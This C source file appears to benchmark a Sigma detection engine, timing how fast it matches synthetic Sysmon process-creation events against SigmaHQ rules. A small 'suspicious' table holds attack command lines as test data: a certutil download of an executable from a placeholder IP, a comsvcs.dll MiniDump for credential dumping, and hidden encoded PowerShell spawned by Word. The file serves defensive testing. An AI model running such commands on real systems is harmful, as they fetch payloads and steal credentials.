/*
 * sigma_bench.c - Sigma engine throughput: Sysmon-like process-creation
 * events (built as tr_events, fields named as the evtx-json parser names
 * them: Event.EventData.X with the taxonomy alias X) against 100, 1,000
 * and all SigmaHQ process_creation rules, in one run, on one thread.
 *
 *   sigma_bench [--events N] [--sigma DIR] [--no-prefilter] [--only 100|1000|-1]
 *
 * Times are CPU time of the process (the machine may be shared), after a
 * warm-up pass over the 4,096 distinct events the run cycles through. About
 * one event in 200 is an attack that real rules catch.
 *
 * Prints one line per rule count and RESULT lines for bench/run.sh:
 *   RESULT sigma_pc_<rules>_eps <events per second> events/s
 *   RESULT sigma_scaling_10x <time ratio of 10x the rules> x
 * The point of the prefilter: ten times the rules should cost far less than
 * ten times the time (goal: less than twice).
 */
#include "core/common.h"

#include <dirent.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "core/vec.h"
#include "trawl/arena.h"
#include "trawl/event.h"
#include "trawl/log.h"
#include "trawl/sigma.h"

typedef TR_VEC(char *) strvec;

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static bool is_pc_rule(const char *path)
{
    FILE *f = fopen(path, "rb");
    if (!f)
        return false;
    char buf[65536];
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    buf[n] = '\0';
    return strstr(buf, "category: process_creation") && strstr(buf, "product: windows") &&
           !strstr(buf, "status: deprecated") && !strstr(buf, "status: unsupported");
}

static void walk(const char *dir, strvec *out)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char p[4096];
        snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
        struct stat st;
        if (stat(p, &st))
            continue;
        if (S_ISDIR(st.st_mode)) {
            walk(p, out);
        } else {
            size_t l = strlen(p);
            if (l > 4 && strcmp(p + l - 4, ".yml") == 0 && is_pc_rule(p)) {
                char *c = strdup(p);
                if (c && !TR_VEC_PUSH(out, c))
                    free(c);
            }
        }
    }
    closedir(d);
}

/* ---- Events --------------------------------------------------------------------------------- */

static uint64_t rng = 88172645463325252ULL;
static uint64_t rnd(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return rng;
}

typedef struct proc {
    const char *image, *cmd, *desc, *product, *company, *orig;
    const char *parent, *parent_cmd, *user, *integrity;
} proc;

#define MS "Microsoft\xC2\xAE Windows\xC2\xAE Operating System", "Microsoft Corporation"
#define SYS "NT AUTHORITY\\SYSTEM", "System"
#define ALICE "CORP\\alice", "Medium"

/* Ordinary processes with the parents and users they have on a workstation. */
static const proc benign[] = {
    { "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
      "Host Process for Windows Services", MS, "svchost.exe", "C:\\Windows\\System32\\services.exe",
      "C:\\Windows\\system32\\services.exe", SYS },
    { "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
      "--field-trial-handle=1784,%u --lang=en-US --renderer-client-id=%u /prefetch:1",
      "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe",
      "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", ALICE },
    { "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
      "Runtime Broker", MS, "RuntimeBroker.exe", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", ALICE },
    { "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe status --porcelain=v2 -z --untracked-files=%u",
      "Git for Windows", "Git", "The Git Development Community", "git.exe",
      "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin", ALICE },
    { "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
      "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
      "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none %u",
      "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe",
      "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
      "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"", ALICE },
    { "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
      "Host Process for Windows Tasks", MS, "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", ALICE },
    { "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -File "
      "C:\\Users\\alice\\Documents\\report_%u.ps1",
      "Windows PowerShell", MS, "PowerShell.EXE", "C:\\Windows\\explorer.exe",
      "C:\\Windows\\Explorer.EXE", ALICE },
    { "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /K dir C:\\Users\\alice\\Documents\\%u",
      "Windows Command Processor", MS, "Cmd.Exe", "C:\\Windows\\explorer.exe",
      "C:\\Windows\\Explorer.EXE", ALICE },
    { "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=gpu-process "
      "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA %u",
      "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe",
      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window", ALICE },
    { "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
      "WMI Provider Host", MS, "Wmiprvse.exe", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "NT AUTHORITY\\NETWORK SERVICE",
      "System" },
    { "C:\\Program Files\\Python311\\python.exe", "python.exe C:\\Users\\alice\\src\\tool\\main.py --job %u",
      "Python", "Python", "Python Software Foundation", "python.exe", "C:\\Windows\\System32\\cmd.exe",
      "\"C:\\Windows\\system32\\cmd.exe\"", ALICE },
    { "C:\\Windows\\System32\\SearchProtocolHost.exe",
      "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%u "
      "Global\\UsGthrCtrlFltPipeMssGthrPipe%u 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
      "Microsoft Windows Search Protocol Host", "Windows\xC2\xAE Search", "Microsoft Corporation",
      "SearchProtocolHost.exe", "C:\\Windows\\System32\\SearchIndexer.exe",
      "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", SYS },
    { "C:\\Windows\\System32\\backgroundTaskHost.exe",
      "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kmbb2trqa7x9kc.mca",
      "Background Task Host", MS, "backgroundTaskHost.exe", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", ALICE },
    { "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
      "Microsoft Outlook", "Microsoft Office", "Microsoft Corporation", "Outlook.exe",
      "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", ALICE },
};

/* A few events that real rules catch (about 1 in 200). */
static const proc suspicious[] = {
    { "C:\\Windows\\System32\\whoami.exe", "whoami /all", "whoami - displays logged on user information",
      MS, "whoami.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", ALICE },
    { "C:\\Windows\\System32\\certutil.exe",
      "certutil.exe -urlcache -split -f http://198.51.100.%u/a.exe C:\\Users\\Public\\a.exe",
      "CertUtil.exe", MS, "CertUtil.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", ALICE },
    { "C:\\Windows\\System32\\rundll32.exe",
      "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %u C:\\Temp\\l.dmp full",
      "Windows host process (Rundll32)", MS, "RUNDLL32.EXE", "C:\\Windows\\System32\\cmd.exe",
      "cmd.exe", SYS },
    { "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA%u",
      "Windows PowerShell", MS, "PowerShell.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n invoice.docm", ALICE },
};

#define NTEMPL 4096
#define NF 26

typedef struct templ {
    tr_field fields[NF];
    uint32_t n;
} templ;

static char *fmt(tr_arena *a, const char *f, unsigned x)
{
    char buf[1024];
    snprintf(buf, sizeof(buf), f, x, x + 7);
    return (char *)tr_arena_strdup(a, buf, strlen(buf)).p;
}

static void add(templ *t, tr_arena *a, const char *alias, const char *value, tr_vkind kind)
{
    char name[128];
    snprintf(name, sizeof(name), "Event.EventData.%s", alias);
    tr_field *f = &t->fields[t->n++];
    memset(f, 0, sizeof(*f));
    f->name = tr_arena_strdup(a, name, strlen(name));
    f->alias = tr_arena_strdup(a, alias, strlen(alias));
    f->value = tr_arena_strdup(a, value, strlen(value));
    f->kind = (uint8_t)kind;
}

static void make_templ(templ *t, tr_arena *a, unsigned i)
{
    t->n = 0;
    bool bad = rnd() % 200 == 0;
    const proc *p = bad ? &suspicious[rnd() % TR_ARRAY_LEN(suspicious)]
                        : &benign[rnd() % TR_ARRAY_LEN(benign)];
    unsigned x = (unsigned)(rnd() % 100000);
    char buf[512];
    snprintf(buf, sizeof(buf), "2024-0%u-1%u %02u:%02u:%02u.%03u", 1 + i % 9, i % 10, i % 24,
             i % 60, (i * 7) % 60, i % 1000);
    add(t, a, "UtcTime", buf, TR_VSTR);
    snprintf(buf, sizeof(buf), "{c1b49677-%04x-5c7a-0000-0010%08x}", i & 0xffff, x);
    add(t, a, "ProcessGuid", buf, TR_VSTR);
    snprintf(buf, sizeof(buf), "%u", 1000 + x % 60000);
    add(t, a, "ProcessId", buf, TR_VNUM);
    add(t, a, "Image", p->image, TR_VSTR);
    add(t, a, "FileVersion", "10.0.19041.1 (WinBuild.160101.0800)", TR_VSTR);
    add(t, a, "Description", p->desc, TR_VSTR);
    add(t, a, "Product", p->product, TR_VSTR);
    add(t, a, "Company", p->company, TR_VSTR);
    add(t, a, "OriginalFileName", p->orig, TR_VSTR);
    add(t, a, "CommandLine", fmt(a, p->cmd, x), TR_VSTR);
    add(t, a, "CurrentDirectory", strstr(p->user, "alice") ? "C:\\Users\\alice\\" : "C:\\Windows\\system32\\", TR_VSTR);
    add(t, a, "User", p->user, TR_VSTR);
    add(t, a, "LogonGuid", "{c1b49677-3fb9-5c09-0000-0020e7030000}", TR_VSTR);
    add(t, a, "LogonId", "0x3e7", TR_VSTR);
    add(t, a, "TerminalSessionId", "0", TR_VNUM);
    add(t, a, "IntegrityLevel", p->integrity, TR_VSTR);
    snprintf(buf, sizeof(buf), "SHA1=%040x,MD5=%032x,SHA256=%064x,IMPHASH=%032x", x, x * 3, x * 5,
             x * 7);
    add(t, a, "Hashes", buf, TR_VSTR);
    snprintf(buf, sizeof(buf), "{c1b49677-6b43-5c78-0000-00107f%06x}", x);
    add(t, a, "ParentProcessGuid", buf, TR_VSTR);
    snprintf(buf, sizeof(buf), "%u", 500 + x % 9000);
    add(t, a, "ParentProcessId", buf, TR_VNUM);
    add(t, a, "ParentImage", p->parent, TR_VSTR);
    add(t, a, "ParentCommandLine", p->parent_cmd, TR_VSTR);
    add(t, a, "ParentUser", p->user, TR_VSTR);
    /* System fields as the evtx-json parser names them. */
    tr_field *f = &t->fields[t->n++];
    memset(f, 0, sizeof(*f));
    f->name = TR_STR("Event.System.EventID");
    f->alias = TR_STR("EventID");
    f->value = TR_STR("1");
    f->kind = TR_VNUM;
    f = &t->fields[t->n++];
    memset(f, 0, sizeof(*f));
    f->name = TR_STR("Event.System.Channel");
    f->alias = TR_STR("Channel");
    f->value = TR_STR("Microsoft-Windows-Sysmon/Operational");
    f = &t->fields[t->n++];
    memset(f, 0, sizeof(*f));
    f->name = TR_STR("Event.System.Computer");
    f->alias = TR_STR("Computer");
    snprintf(buf, sizeof(buf), "ws%03u.corp.example", x % 500);
    f->value = tr_arena_strdup(a, buf, strlen(buf));
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int on_match(const tr_sigma_match *m, void *ctx)
{
    (void)m;
    ++*(uint64_t *)ctx;
    return 0;
}

static void quiet_diag(const tr_sigma_diag *d, void *ctx)
{
    if (d->level == TR_SIGMA_ERROR)
        ++*(unsigned *)ctx;
}

int main(int argc, char **argv)
{
    long events = 1000000;
    const char *sigma = NULL;
    bool no_prefilter = false;
    long only = 0;
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--events") && i + 1 < argc)
            events = strtol(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--sigma") && i + 1 < argc)
            sigma = argv[++i];
        else if (!strcmp(argv[i], "--only") && i + 1 < argc)
            only = strtol(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--no-prefilter"))
            no_prefilter = true;
        else {
            fprintf(stderr, "usage: sigma_bench [--events N] [--sigma DIR] [--no-prefilter] [--only 100|1000|-1]\n");
            return 2;
        }
    }
    if (!sigma) {
        sigma = access("../shared/sigma/rules", R_OK) == 0 ? "../shared/sigma" : "/work/shared/sigma";
    }
    strvec files = { 0 };
    const char *sub[] = { "rules", "rules-emerging-threats", "rules-threat-hunting" };
    for (size_t i = 0; i < 3; i++) {
        char d[4096];
        snprintf(d, sizeof(d), "%s/%s", sigma, sub[i]);
        walk(d, &files);
    }
    if (files.n == 0) {
        printf("sigma bench: skipped: no SigmaHQ rules under %s (set --sigma DIR)\n", sigma);
        return 0;
    }
    qsort(files.v, files.n, sizeof(char *), cmp_str);

    tr_arena *a = tr_arena_new(1 << 20, 0);
    templ *t = calloc(NTEMPL, sizeof(templ));
    if (!a || !t)
        return 1;
    for (unsigned i = 0; i < NTEMPL; i++)
        make_templ(&t[i], a, i);

    size_t counts[3] = { 100, 1000, files.n };
    double secs[3] = { 0 };
    printf("sigma bench: %ld Sysmon-like process_creation events, one thread%s\n", events,
           no_prefilter ? ", prefilter off" : "");
    printf("%8s %8s %10s %14s %12s %10s %8s\n", "rules", "loaded", "load ms", "events/s",
           "us/event", "cand/ev", "matches");
    for (int k = 0; k < 3; k++) {
        if (only && (size_t)only != counts[k] && !(only < 0 && k == 2))
            continue;
        size_t want = TR_MIN(counts[k], files.n);
        /* An even sample of the sorted files. */
        const char **sel = malloc(want * sizeof(char *));
        for (size_t i = 0; i < want; i++)
            sel[i] = files.v[(i * files.n) / want];
        unsigned rejected = 0;
        tr_sigma_opts o = { .diag = quiet_diag, .diag_ctx = &rejected,
                            .no_prefilter = no_prefilter };
        double t0 = now();
        tr_ruleset *rs;
        if (tr_ruleset_load(sel, want, &o, &rs) != TR_OK) {
            fprintf(stderr, "sigma bench: load failed\n");
            return 1;
        }
        double load_ms = (now() - t0) * 1e3;
        tr_sigma_scratch *s;
        if (tr_sigma_scratch_new(rs, &s) != TR_OK)
            return 1;
        tr_event ev;
        tr_field fields[NF];
        tr_event_init(&ev, fields, NF, a);
        ev.logsource.product = TR_STR("windows");
        ev.logsource.service = TR_STR("sysmon");
        tr_logsource_add_category(&ev.logsource, TR_STR("process_creation"));
        ev.path = TR_STR("bench");
        uint64_t matches = 0;
        /* Warm-up, then the timed run. */
        for (long i = 0; i < NTEMPL; i++) {
            memcpy(fields, t[i % NTEMPL].fields, sizeof(fields));
            ev.nfields = t[i % NTEMPL].n;
            tr_sigma_scan(rs, s, &ev, on_match, &matches);
        }
        matches = 0;
        uint64_t cand0 = tr_sigma_scratch_stats(s)->candidates;
        t0 = now();
        for (long i = 0; i < events; i++) {
            const templ *tp = &t[i % NTEMPL];
            ev.fields = (tr_field *)tp->fields;
            ev.nfields = tp->n;
            ev.record = (uint64_t)i;
            tr_sigma_scan(rs, s, &ev, on_match, &matches);
        }
        double el = now() - t0;
        secs[k] = el;
        double cand = (double)(tr_sigma_scratch_stats(s)->candidates - cand0) / (double)events;
        printf("%8zu %8u %10.0f %14.0f %12.2f %10.2f %8" PRIu64 "\n", want,
               tr_ruleset_count(rs), load_ms, events / el, el * 1e6 / events, cand, matches);
        if (k == 2)
            printf("RESULT sigma_pc_all_eps %.0f events/s\n", events / el);
        else
            printf("RESULT sigma_pc_%zu_eps %.0f events/s\n", want, events / el);

        tr_sigma_scratch_free(s);
        tr_ruleset_free(rs);
        free(sel);
        (void)rejected;
    }
    if (only)
        return 0;
    printf("time with 1000 rules / time with 100 rules: %.2f\n", secs[1] / secs[0]);
    printf("time with %zu rules / time with 100 rules: %.2f\n", files.n, secs[2] / secs[0]);
    printf("RESULT sigma_scaling_10x %.2f x\n", secs[1] / secs[0]);
    printf("RESULT sigma_pc_all_rules %zu rules\n", files.n);
    for (size_t i = 0; i < files.n; i++)
        free(files.v[i]);
    TR_VEC_FREE(&files);
    free(t);
    tr_arena_free(a);
    return 0;
}
